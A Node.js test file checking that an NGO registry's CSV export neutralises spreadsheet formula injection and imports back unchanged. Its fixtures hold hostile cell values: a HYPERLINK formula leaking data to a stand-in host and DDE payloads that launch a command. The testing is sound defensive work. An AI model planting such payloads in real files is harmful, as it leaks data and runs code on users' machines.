// Hardening (issue 16, item 3): CSV formula injection. A cell an NGO wrote that starts
// with =, +, -, @, tab or carriage return must not reach a spreadsheet as a formula: CSV
// exports prefix it with an apostrophe (OWASP's rule), and importing the export gives the
// same data back.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { writeFile, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { startServer, cliOk, readText } from './lib/server.mjs';

let srv;
before(async () => {
  srv = await startServer({ ngo: true });
});
after(() => srv?.stop());

const NASTY = {
  '=HYPERLINK("http://evil.example/?"&A1,"click")': 'FX-EQ',
  '+7 495 123-45-67': 'FX-PLUS',
  '-2+3+cmd|\' /C calc\'!A0': 'FX-MINUS',
  '@SUM(1+1)*cmd|\' /C calc\'!A0': 'FX-AT',
  "'=already quoted": 'FX-APOS',
};

test('CSV export neutralises cells that a spreadsheet would read as a formula', async () => {
  for (const [city, reg] of Object.entries(NASTY)) {
    const r = await srv.api('POST', '/api/v1/organisations', {
      body: { name: `Formula ${reg}`, country: 'FJ', registration_no: reg, city, acronym: '@X' },
    });
    assert.equal(r.status, 201, r.text);
  }
  const res = await srv.api('GET', '/api/v1/organisations?country=FJ&format=csv&sort=id&limit=500');
  assert.equal(res.status, 200, res.text);
  const lines = res.text.split('\r\n');
  const body = lines.slice(1).join('\n');
  for (const city of Object.keys(NASTY)) {
    // No cell begins with a trigger character: each is behind an apostrophe.
    const quoted = city.includes('"') || city.includes(',') ? `"'${city.replace(/"/g, '""')}"` : `'${city}`;
    assert.ok(body.includes(quoted), `expected ${quoted} in\n${body}`);
  }
  assert.ok(body.includes(",'@X,"), body);
  for (const line of lines.slice(1)) {
    for (const cell of line.split(',')) assert.ok(!/^[=+\-@\t\r]/.test(cell), `cell ${cell} in ${line}`);
  }

  // The export imports back to the same values.
  await srv.stop({ keepDir: true });
  const file = join(srv.dir, 'back.csv');
  const fresh = join(srv.dir, 'fresh.db');
  await writeFile(file, res.text);
  await cliOk(['init', '--db', fresh]);
  await cliOk(['import', 'organisations', file, '--db', fresh]);
  const out = join(srv.dir, 'again.csv');
  await cliOk(['export', 'organisations', '--format', 'json', '-o', out, '--db', fresh]);
  const again = JSON.parse(await readText(out));
  const items = again.items ?? again;
  const cities = items.map((o) => o.city).sort();
  assert.deepEqual(cities, Object.keys(NASTY).sort());
  assert.ok(items.every((o) => o.acronym === '@X'));
  await rm(srv.dir, { recursive: true, force: true });
  srv = null;
});
